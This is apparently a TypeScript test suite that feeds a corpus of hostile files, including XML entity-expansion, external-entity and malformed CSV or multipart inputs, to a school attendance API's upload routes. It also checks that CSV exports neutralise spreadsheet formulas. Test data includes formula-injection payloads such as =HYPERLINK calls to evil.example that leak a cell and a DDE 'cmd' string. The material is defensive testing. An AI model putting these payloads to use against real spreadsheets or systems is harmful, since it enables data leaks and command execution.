/**
 * Bad input (issue 10): every file of the hostile corpus (test/fixtures/hostile, described in its
 * README) through every entry point that takes files. Whatever the file, the answer is a 4xx
 * problem with a precise detail, or a report whose row errors carry line, field and message —
 * never a 500, never a stack trace — and the bytes received are kept where the service says.
 * Each file's own entry point ("home") is held to the exact outcome the README gives it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { allRoutes } from '../../functions/api/routes/index.js';
import { parseMultipart } from '../../shared/formats/multipart.js';
import { getReturn } from '../../shared/store/returns.js';
import { upnFor } from '../support/returns.js';
import { startTestService, type TestResponse, type TestService } from '../integration/harness.js';
import {
  csvCells,
  inPool,
  isFormulaCell,
  keptImport,
  keptReturn,
  loadCorpus,
  multipartBody,
  problemFault,
  quarantinedReturn,
  rowErrorsFault,
  type CorpusFile,
} from './support.js';

const URN = '123456';
let svc: TestService;
let school: string;
let officer: string;
let admin: string;

interface EntryPoint {
  name: string;
  send(file: CorpusFile): Promise<TestResponse>;
  /** Where the bytes are kept: a return (returnId) or an import (importId). */
  keeps: 'return' | 'import';
  /** The request body sent for a file, when it is not the file itself. */
  wire?: (file: CorpusFile) => Buffer;
}

const ENTRY_POINTS: EntryPoint[] = [
  {
    name: 'POST /v1/returns (text/csv)',
    keeps: 'return',
    send: (f) => svc.request('POST', '/v1/returns', { token: school, body: f.body, contentType: 'text/csv' }),
  },
  {
    name: 'POST /v1/returns (application/xml)',
    keeps: 'return',
    send: (f) => svc.request('POST', '/v1/returns', { token: school, body: f.body, contentType: 'application/xml' }),
  },
  { name: 'POST /v1/returns/uploads + PUT (csv)', keeps: 'return', send: (f) => presigned(f, 'csv') },
  { name: 'POST /v1/returns/uploads + PUT (ctf)', keeps: 'return', send: (f) => presigned(f, 'ctf') },
  // The list is recognised from its content (the type only names the kept file), so each file once.
  {
    name: 'POST /v1/cohorts (text/csv or application/xml)',
    keeps: 'import',
    send: (f) =>
      svc.request('POST', '/v1/cohorts', {
        token: officer,
        body: f.body,
        contentType: f.name.endsWith('.xml') ? 'application/xml' : 'text/csv',
      }),
  },
  {
    // The corpus's multipart bodies as they are; every other file as the one part of a form.
    name: 'POST /v1/cohorts (multipart/form-data)',
    keeps: 'import',
    wire: (f) =>
      f.name.startsWith('cohorts/multipart-')
        ? f.body
        : multipartBody([{ name: 'file', filename: f.name.split('/').pop()!, body: f.body }]),
    send(f) {
      return svc.request('POST', '/v1/cohorts', {
        token: officer,
        contentType: 'multipart/form-data; boundary=XBOUNDARY',
        body: this.wire!(f),
      });
    },
  },
  {
    name: 'POST /v1/schools (GIAS)',
    keeps: 'import',
    send: (f) => svc.request('POST', '/v1/schools', { token: admin, body: f.body, contentType: 'text/csv' }),
  },
  {
    name: 'POST /v1/calendars (text/csv)',
    keeps: 'import',
    send: (f) => svc.request('POST', '/v1/calendars', { token: admin, body: f.body, contentType: 'text/csv' }),
  },
  {
    name: 'POST /v1/calendars (text/calendar)',
    keeps: 'import',
    send: (f) => svc.request('POST', '/v1/calendars', { token: admin, body: f.body, contentType: 'text/calendar' }),
  },
];

/** A presigned upload: the presign's problem if refused, else a synthetic 202 naming the return. */
async function presigned(f: CorpusFile, format: 'csv' | 'ctf'): Promise<TestResponse> {
  const presign = await svc.request('POST', '/v1/returns/uploads', {
    token: school,
    body: { urn: URN, format, bytes: f.body.length },
  });
  if (presign.status !== 201) return presign;
  const { returnId, uploadUrl, headers } = presign.json();
  const put = await fetch(uploadUrl, { method: 'PUT', headers, body: f.body });
  await put.arrayBuffer();
  const text = JSON.stringify({ returnId, putStatus: put.status });
  return { status: 202, headers: { 'content-type': 'application/json' }, text, json: () => JSON.parse(text) };
}

interface Outcome {
  entry: EntryPoint;
  file: CorpusFile;
  res: TestResponse;
  /** For returns that went to ingest: the status once settled. */
  status?: {
    status: string;
    counts?: unknown;
    errors: unknown[];
    rejection?: { title: string; detail: string };
    urn: string;
    format: string;
  };
}

const corpus = loadCorpus();
let outcomes: Outcome[] = [];

beforeAll(async () => {
  svc = await startTestService();
  school = await svc.token('school', { urn: URN });
  officer = await svc.token('la_officer');
  admin = await svc.token('admin');
  const jobs = ENTRY_POINTS.flatMap((entry) => corpus.map((file) => ({ entry, file })));
  outcomes = await inPool(jobs, 4, async ({ entry, file }) => ({ entry, file, res: await entry.send(file) }));
  await svc.settle();
  // Final statuses from the store (the same record GET /v1/returns/{id} shows; the route is tested elsewhere).
  await inPool(
    outcomes.filter((o) => o.res.status === 202),
    6,
    async (o) => {
      const r = await getReturn(o.res.json().returnId);
      o.status = r && {
        status: r.status,
        counts: r.counts,
        errors: r.errors ?? [],
        rejection: r.rejection,
        urn: r.urn,
        format: r.format,
      };
    },
  );
}, 300_000);
afterAll(async () => svc?.stop());

/** What is wrong with one outcome's answer, or undefined. */
function answerFault(o: Outcome): string | undefined {
  const { res } = o;
  if (res.status >= 400) return problemFault(res);
  if (res.status >= 300 || res.status < 200) return `status ${res.status}`;
  if (o.status) {
    if (!['accepted', 'accepted_with_errors', 'rejected'].includes(o.status.status))
      return `return left at ${o.status.status}`;
    if (o.status.status === 'rejected' && !(o.status.rejection && o.status.rejection.detail.length > 15))
      return 'rejected without a precise reason';
    return rowErrorsFault(o.status.errors);
  }
  return rowErrorsFault(res.json().errors ?? []);
}

/** What was not kept of one outcome's file, or undefined. */
async function keepingFault(o: Outcome): Promise<string | undefined> {
  if (o.file.body.length === 0) return undefined; // nothing was received
  const body = o.res.json<{ returnId?: string; importId?: string }>();
  if (o.entry.keeps === 'return') {
    if (!body.returnId) return 'no returnId in the answer';
    const kept = await keptReturn(body.returnId);
    if (!kept?.body.equals(o.file.body))
      return `not kept as received (${kept ? `${kept.body.length} bytes at ${kept.key}` : 'nothing'})`;
    if (o.status?.status === 'rejected' && o.res.status === 202) {
      const ext = o.status.format === 'csv' ? 'csv' : 'xml';
      if (!(await quarantinedReturn(o.status.urn, body.returnId, ext))?.equals(o.file.body))
        return 'rejected in ingest but not copied to quarantine';
    }
    return undefined;
  }
  if (!body.importId) return 'no importId in the answer';
  const kept = await keptImport(body.importId);
  // Either the request body as sent, or (a form read into its files) each of its files.
  const sent = o.entry.wire?.(o.file) ?? o.file.body;
  if (kept.some((k) => k.equals(sent))) return undefined;
  const parsed = o.entry.wire ? parseMultipart(sent, 'XBOUNDARY') : undefined;
  if (parsed?.ok && parsed.parts.every((p) => kept.some((k) => k.equals(p.body)))) return undefined;
  return `not kept as received under imports/${body.importId}/ (${kept.length} objects)`;
}

describe('the hostile corpus through every entry point', () => {
  for (const entry of ENTRY_POINTS) {
    it(`${entry.name}: answers every corpus file with a precise 4xx problem or a report with line, field and message per error; never a 500 or a stack trace`, () => {
      const faults = outcomes
        .filter((o) => o.entry === entry)
        .flatMap((o) => {
          const fault = answerFault(o);
          return fault ? [`${o.file.name}: ${fault}`] : [];
        });
      expect(faults).toEqual([]);
      expect(outcomes.filter((o) => o.entry === entry)).toHaveLength(corpus.length);
    });

    it(`${entry.name}: keeps every file it received, byte for byte, where its answer says`, async () => {
      const faults: string[] = [];
      for (const o of outcomes.filter((x) => x.entry === entry)) {
        const fault = await keepingFault(o);
        if (fault) faults.push(`${o.file.name}: ${fault}`);
      }
      expect(faults).toEqual([]);
    });
  }
});

/** The outcome each file must have at its own entry point (README.md says why). */
type Expected =
  | { status: number; code?: string; detail: RegExp }
  | { final: 'accepted' | 'accepted_with_errors'; errors: Array<[line: number, field: string, code: string]> }
  | { report: number; counts?: Record<string, number>; errors: Array<[line: number, field: string, code: string]> };

const HOME: Record<string, [entry: string, expected: Expected]> = {
  'returns/binary-png.csv': [
    'POST /v1/returns (text/csv)',
    { status: 415, code: 'not_csv', detail: /binary content \(a NUL byte at byte \d+\)/ },
  ],
  'returns/blank-lines-only.csv': ['POST /v1/returns (text/csv)', { status: 400, code: 'empty_file', detail: /empty/ }],
  'returns/crlf.csv': [
    'POST /v1/returns (text/csv)',
    { final: 'accepted_with_errors', errors: [[3, 'pm', 'unknown_code']] },
  ],
  'returns/duplicate-columns.csv': [
    'POST /v1/returns (text/csv)',
    { status: 422, code: 'duplicate_columns', detail: /names am more than once/ },
  ],
  'returns/empty.csv': [
    'POST /v1/returns (text/csv)',
    { status: 400, code: 'empty_file', detail: /the file is empty/ },
  ],
  'returns/formula-injection.csv': ['POST /v1/returns (text/csv)', { final: 'accepted', errors: [] }],
  'returns/header-only.csv': [
    'POST /v1/returns (text/csv)',
    { status: 422, code: 'no_rows', detail: /header but no data rows/ },
  ],
  'returns/json-sent-as-csv.csv': [
    'POST /v1/returns (text/csv)',
    { status: 415, code: 'not_csv', detail: /looks like JSON/ },
  ],
  'returns/lone-cr.csv': [
    'POST /v1/returns (text/csv)',
    { final: 'accepted_with_errors', errors: [[3, 'am', 'unknown_code']] },
  ],
  'returns/missing-columns.csv': [
    'POST /v1/returns (text/csv)',
    { status: 422, code: 'missing_columns', detail: /lacks the required column pm/ },
  ],
  'returns/nul-in-line-3.csv': [
    'POST /v1/returns (text/csv)',
    { status: 415, code: 'not_csv', detail: /NUL byte at byte 138/ },
  ],
  'returns/pdf-as-csv.csv': ['POST /v1/returns (text/csv)', { status: 415, code: 'not_csv', detail: /PDF document/ }],
  'returns/quoted-newlines.csv': [
    'POST /v1/returns (text/csv)',
    { final: 'accepted_with_errors', errors: [[4, 'pm', 'unknown_code']] },
  ],
  'returns/row-errors.csv': [
    'POST /v1/returns (text/csv)',
    {
      final: 'accepted_with_errors',
      errors: [
        [2, 'upn', 'upn_check_letter'],
        [3, 'am', 'unknown_code'],
        [4, 'am', 'legacy_code'],
        [5, 'date', 'date_format'],
        [6, 'date', 'date_future'],
        [7, 'am', 'conflicting_duplicate'],
        [8, 'am', 'conflicting_duplicate'],
        [9, 'forename', 'forename_too_long'],
      ],
    },
  ],
  'returns/script-and-sql-names.csv': ['POST /v1/returns (text/csv)', { final: 'accepted', errors: [] }],
  'returns/truncated-mid-quote.csv': [
    'POST /v1/returns (text/csv)',
    { status: 400, code: 'unterminated_quote', detail: /quoted field opened on line 3 is never closed/ },
  ],
  'returns/truncated-mid-row.csv': [
    'POST /v1/returns (text/csv)',
    { final: 'accepted_with_errors', errors: [[3, '*', 'field_count']] },
  ],
  'returns/two-schools.csv': [
    'POST /v1/returns (text/csv)',
    { status: 422, code: 'several_schools', detail: /rows for 2 URNs/ },
  ],
  'returns/utf16be-bom.csv': ['POST /v1/returns (text/csv)', { status: 415, code: 'not_csv', detail: /UTF-16/ }],
  'returns/utf16le-bom.csv': ['POST /v1/returns (text/csv)', { status: 415, code: 'not_csv', detail: /UTF-16/ }],
  'returns/utf8-bom.csv': ['POST /v1/returns (text/csv)', { final: 'accepted', errors: [] }],
  'returns/windows-1252.csv': [
    'POST /v1/returns (text/csv)',
    { status: 415, code: 'invalid_utf8', detail: /invalid byte 0xeb at byte offset 78 on line 2/ },
  ],
  'returns/xlsx-as-csv.csv': [
    'POST /v1/returns (text/csv)',
    { status: 415, code: 'not_csv', detail: /Excel workbook/ },
  ],
  'returns/xml-sent-as-csv.csv': [
    'POST /v1/returns (text/csv)',
    { status: 415, code: 'not_csv', detail: /looks like XML/ },
  ],
  'xml/billion-laughs.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_doctype', detail: /DOCTYPE declaration \(DTD\) on line 2 is not accepted/ },
  ],
  'xml/cin-census-external-entity.xml': [
    'POST /v1/cohorts (text/csv or application/xml)',
    { status: 400, code: 'xml_doctype', detail: /DOCTYPE.*line 2/ },
  ],
  'xml/ctf-formula-names.xml': ['POST /v1/returns (application/xml)', { final: 'accepted', errors: [] }],
  'xml/ctf-totals-mismatch.xml': [
    'POST /v1/returns (application/xml)',
    {
      final: 'accepted_with_errors',
      errors: [
        [36, 'SessionsAttended', 'ctf_totals_mismatch'],
        [36, 'SessionsUnauthorised', 'ctf_totals_mismatch'],
      ],
    },
  ],
  'xml/doctype-external-entity.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_doctype', detail: /line 2/ },
  ],
  'xml/external-dtd.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_doctype', detail: /line 2/ },
  ],
  'xml/latin1-ctf.xml': [
    'POST /v1/returns (application/xml)',
    { status: 415, code: 'xml_not_text', detail: /invalid byte 0xeb/ },
  ],
  'xml/mismatched-tags.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_not_well_formed', detail: /<\/Forename> on line 7 does not match <Surname>/ },
  ],
  'xml/not-xml.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_not_well_formed', detail: /text outside the root element on line 1/ },
  ],
  'xml/parameter-entity.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_doctype', detail: /line 2/ },
  ],
  'xml/processing-instruction.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_processing_instruction', detail: /xml-stylesheet.*line 2/ },
  ],
  'xml/text-after-root.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_not_well_formed', detail: /text outside the root element on line 30/ },
  ],
  'xml/truncated-ctf.xml': [
    'POST /v1/returns (application/xml)',
    {
      status: 400,
      code: 'xml_truncated',
      detail: /ends \(line 23\) before <AttendanceMarks> opened on line 23 is closed/,
    },
  ],
  'xml/two-roots.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_not_well_formed', detail: /second root element <CTfile> on line 30/ },
  ],
  'xml/undefined-entity.xml': [
    'POST /v1/returns (application/xml)',
    { status: 400, code: 'xml_entity', detail: /&nbsp; on line 8/ },
  ],
  'xml/utf16le-ctf.xml': [
    'POST /v1/returns (application/xml)',
    { status: 415, code: 'xml_encoding', detail: /UTF-16/ },
  ],
  // XInclude is not processed: the element is ignored, nothing is fetched, the marks load.
  'xml/xinclude.xml': ['POST /v1/returns (application/xml)', { final: 'accepted', errors: [] }],
  'cohorts/cohort-bad-rows.csv': [
    'POST /v1/cohorts (text/csv or application/xml)',
    {
      report: 200,
      counts: { records: 5, accepted: 1, rejected: 4 },
      errors: [
        [3, 'cohort', 'cohort_unknown'],
        [4, 'upn', 'upn_check_letter'],
        [5, 'start_date', 'invalid_date'],
        [6, 'end_date', 'end_before_start'],
      ],
    },
  ],
  'cohorts/cohort-windows-1252.csv': [
    'POST /v1/cohorts (text/csv or application/xml)',
    { status: 415, code: 'invalid_utf8', detail: /invalid byte 0xe9 at byte offset 69 on line 2/ },
  ],
  'cohorts/episodes-alone.csv': [
    'POST /v1/cohorts (text/csv or application/xml)',
    { status: 422, detail: /looks like an SSDA903 episodes\.csv/ },
  ],
  'cohorts/multipart-header-only.txt': [
    'POST /v1/cohorts (multipart/form-data)',
    { status: 422, detail: /looks like an SSDA903 header\.csv/ },
  ],
  'cohorts/multipart-no-blank-line.txt': [
    'POST /v1/cohorts (multipart/form-data)',
    { status: 400, detail: /no blank line between its headers and its content/ },
  ],
  'cohorts/multipart-no-closing-boundary.txt': [
    'POST /v1/cohorts (multipart/form-data)',
    { status: 400, detail: /ends before its closing boundary/ },
  ],
  'cohorts/multipart-no-name.txt': [
    'POST /v1/cohorts (multipart/form-data)',
    { status: 400, detail: /no Content-Disposition: form-data; name=/ },
  ],
  'cohorts/multipart-valid-ssda903.txt': [
    'POST /v1/cohorts (multipart/form-data)',
    { report: 200, counts: { records: 1, accepted: 1, rejected: 0 }, errors: [] },
  ],
  'cohorts/unrecognised.csv': [
    'POST /v1/cohorts (text/csv or application/xml)',
    { status: 415, detail: /Unrecognised list/ },
  ],
  'registry/gias-formula-names.csv': [
    'POST /v1/schools (GIAS)',
    { report: 200, counts: { records: 4, accepted: 3, rejected: 1 }, errors: [[5, 'URN', 'urn_format']] },
  ],
  'registry/gias-missing-columns.csv': [
    'POST /v1/schools (GIAS)',
    { status: 422, code: 'missing_columns', detail: /not a GIAS extract: the header lacks 'LA \(code\)'/ },
  ],
  'calendars/formula-labels.csv': [
    'POST /v1/calendars (text/csv)',
    { report: 201, errors: [[4, 'start_date', 'start_date_format']] },
  ],
  'calendars/truncated.ics': [
    'POST /v1/calendars (text/calendar)',
    { status: 422, detail: /None of the file's 1 records could be imported/ },
  ],
};

describe('each corpus file at its own entry point', () => {
  it('has an expected outcome for every corpus file', () => {
    expect(corpus.map((f) => f.name).filter((n) => !HOME[n])).toEqual([]);
  });

  for (const [name, [entryName, expected]] of Object.entries(HOME)) {
    const rule =
      'status' in expected
        ? `${expected.status}${expected.code ? ` ${expected.code}` : ''}`
        : 'final' in expected
          ? expected.final
          : `a ${expected.report} report`;
    it(`${name} on ${entryName}: ${rule}${'errors' in expected && expected.errors.length ? ` with row errors at lines ${[...new Set(expected.errors.map((e) => e[0]))].join(', ')}` : ''}`, () => {
      const o = outcomes.find((x) => x.file.name === name && x.entry.name === entryName)!;
      if ('status' in expected) {
        expect(o.res.status).toBe(expected.status);
        const p = o.res.json();
        if (expected.code) expect(p.code).toBe(expected.code);
        expect(p.detail).toMatch(expected.detail);
      } else if ('final' in expected) {
        expect(o.res.status).toBe(202);
        expect(o.status?.status).toBe(expected.final);
        expect(
          (o.status!.errors as Array<{ line: number; field: string; code: string }>).map((e) => [
            e.line,
            e.field,
            e.code,
          ]),
        ).toEqual(expected.errors);
      } else {
        expect(o.res.status).toBe(expected.report);
        const report = o.res.json();
        if (expected.counts) expect(report.counts).toMatchObject(expected.counts);
        expect(
          (report.errors as Array<{ line: number; field: string; code: string }>).map((e) => [e.line, e.field, e.code]),
        ).toEqual(expected.errors);
      }
    });
  }

  it("names the pupil, the total, the stated and the counted figure when a CTF's marks disagree with its totals", () => {
    const o = outcomes.find(
      (x) => x.file.name === 'xml/ctf-totals-mismatch.xml' && x.entry.name === 'POST /v1/returns (application/xml)',
    )!;
    const messages = (o.status!.errors as Array<{ message: string }>).map((e) => e.message);
    expect(messages[0]).toMatch(/SessionsAttended is stated as 10 but the marks count 8/);
    expect(messages[1]).toMatch(/SessionsUnauthorised is stated as 0 but the marks count 2/);
    // The pupil whose totals agree is loaded; the other's rows are not.
    expect(o.status!.counts).toEqual({ rows: 10, accepted: 5, rejected: 1 });
  });

  it('refuses DTDs and entities before any is resolved: nothing of /etc/passwd reaches any answer', () => {
    const leaked = outcomes.filter(
      (o) => /root:.*:0:0:/.test(o.res.text) || /root:.*:0:0:/.test(JSON.stringify(o.status ?? {})),
    );
    expect(leaked.map((o) => `${o.entry.name} ${o.file.name}`)).toEqual([]);
  });
});

/** Pupils of the formula-injection files (upnFor 21–26 and 31 in the corpus generator). */
const FORMULA_UPNS = [21, 22, 23, 24, 25, 26].map((n) => upnFor(n));
const CTF_FORMULA_UPN = upnFor(31);
const YEAR_2025 = 'from=2025-08-01&to=2026-07-31';

/**
 * How to ask each CSV export for the corpus's data: role and path with query. A CSV route added
 * later without an entry here is still called (with each role in turn, no parameters) and checked.
 */
const CSV_REQUESTS: Record<string, { role: 'la_officer' | 'vsh' | 'admin' | 'school'; path: string }> = {
  'GET /v1/pupils': { role: 'la_officer', path: `/v1/pupils?flag=severe_absence&${YEAR_2025}` },
  'GET /v1/pupils/{upn}/sessions': {
    role: 'la_officer',
    path: `/v1/pupils/${FORMULA_UPNS[0]}/sessions?from=2025-09-01&to=2025-09-30`,
  },
  'GET /v1/metrics': { role: 'la_officer', path: `/v1/metrics?scope=la&groupBy=school&${YEAR_2025}` },
  'GET /v1/schools': { role: 'la_officer', path: '/v1/schools' },
  'GET /v1/audit': { role: 'admin', path: '/v1/audit?limit=1000' },
  'GET /v1/virtual-school/pupils': { role: 'vsh', path: `/v1/virtual-school/pupils?${YEAR_2025}` },
  'GET /v1/virtual-school/alerts': { role: 'vsh', path: '/v1/virtual-school/alerts?date=2025-09-05' },
  'GET /v1/virtual-school/pupils/{upn}/pep-summary': {
    role: 'vsh',
    path: `/v1/virtual-school/pupils/${FORMULA_UPNS[0]}/pep-summary?academicYear=2025`,
  },
  'GET /v1/referrals': { role: 'la_officer', path: '/v1/referrals' },
  'GET /v1/referrals/suggestions': { role: 'la_officer', path: '/v1/referrals/suggestions?academicYear=2025' },
  'GET /v1/schools/{urn}/looked-after-pupils': {
    role: 'la_officer',
    path: `/v1/schools/${URN}/looked-after-pupils?academicYear=2025`,
  },
  'GET /v1/schools/{urn}/unresolved-n': { role: 'school', path: `/v1/schools/${URN}/unresolved-n?academicYear=2025` },
};

describe('formula-injection names in every CSV export (Accept: text/csv)', () => {
  const exports = new Map<string, TestResponse>();

  beforeAll(async () => {
    // A referral whose free text is a formula, and an audit entry whose user is one.
    const created = await svc.request('POST', '/v1/referrals', {
      token: officer,
      body: {
        upn: FORMULA_UPNS[0],
        urn: URN,
        type: 'severe_absence',
        reason: '=HYPERLINK("http://evil.example","open")',
        parents: [{ name: '@SUM(A1)', relationship: '+mother' }],
      },
    });
    expect(created.status).toBe(201);
    const formulaAdmin = await svc.token('admin', { sub: '=HYPERLINK("http://evil.example","me")' });
    expect((await svc.request('GET', '/v1/schools', { token: formulaAdmin })).status).toBe(200);
    await svc.request('POST', '/v1/schools', { token: formulaAdmin, body: 'URN\n', contentType: 'text/csv' });

    const tokens = { la_officer: officer, admin, vsh: await svc.token('vsh'), school };
    for (const def of allRoutes.filter((r) => r.csv)) {
      const key = `${def.method} ${def.path}`;
      const known = CSV_REQUESTS[key];
      const tries = known
        ? [known]
        : (['la_officer', 'vsh', 'admin', 'school'] as const).map((role) => ({ role, path: def.path }));
      for (const t of tries) {
        const res = await svc.request(def.method, t.path, { token: tokens[t.role], headers: { accept: 'text/csv' } });
        if (res.status === 200) {
          exports.set(key, res);
          break;
        }
        if (known) exports.set(key, res);
      }
    }
  });

  it('answers every CSV route with text/csv', () => {
    const csvRoutes = allRoutes.filter((r) => r.csv).map((r) => `${r.method} ${r.path}`);
    expect(
      csvRoutes.filter(
        (k) => exports.get(k)?.status !== 200 || !exports.get(k)?.headers['content-type']?.startsWith('text/csv'),
      ),
    ).toEqual([]);
  });

  it('leaves no cell that a spreadsheet would run as a formula (= + - @ tab CR first, unless a plain number)', () => {
    const dangerous: string[] = [];
    for (const [key, res] of exports) {
      for (const row of csvCells(res.text))
        for (const cell of row) if (isFormulaCell(cell)) dangerous.push(`${key}: ${JSON.stringify(cell)}`);
    }
    expect(dangerous).toEqual([]);
  });

  it('still shows each formula name, prefixed with an apostrophe, in the flagged-pupils and Virtual School exports', () => {
    const pupils = csvCells(exports.get('GET /v1/pupils')!.text);
    const names = pupils.flatMap((row) => row);
    for (const name of [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '=1+1',
      '-SUM(A1:A2)',
      '=HYPERLINK("http://evil.example","x")',
    ]) {
      expect(names).toContain(`'${name}`);
    }
    // A phone-number-like surname is text, not a sum.
    expect(names).toContain("'+44 20 7946 0000");
    const vs = csvCells(exports.get('GET /v1/virtual-school/pupils')!.text).flat();
    expect(vs).toContain('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")');
    expect(pupils.some((row) => row.includes(CTF_FORMULA_UPN))).toBe(true);
  });

  it('escapes a school name from the GIAS extract, a referral reason and an audited user name', () => {
    expect(csvCells(exports.get('GET /v1/schools')!.text).flat()).toContain(
      '\'=HYPERLINK("http://evil.example","Hostile School")',
    );
    expect(csvCells(exports.get('GET /v1/referrals')!.text).flat()).toContain(
      '\'=HYPERLINK("http://evil.example","open")',
    );
    expect(csvCells(exports.get('GET /v1/audit')!.text).flat()).toContain('\'=HYPERLINK("http://evil.example","me")');
  });

  it('keeps the JSON answers literal: the same names come back unchanged, as data', async () => {
    const res = await svc.request('GET', `/v1/pupils/${FORMULA_UPNS[0]}?academicYear=2025`, { token: officer });
    expect(res.json()).toMatchObject({
      forename: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
      surname: '=1+1',
    });
  });
});
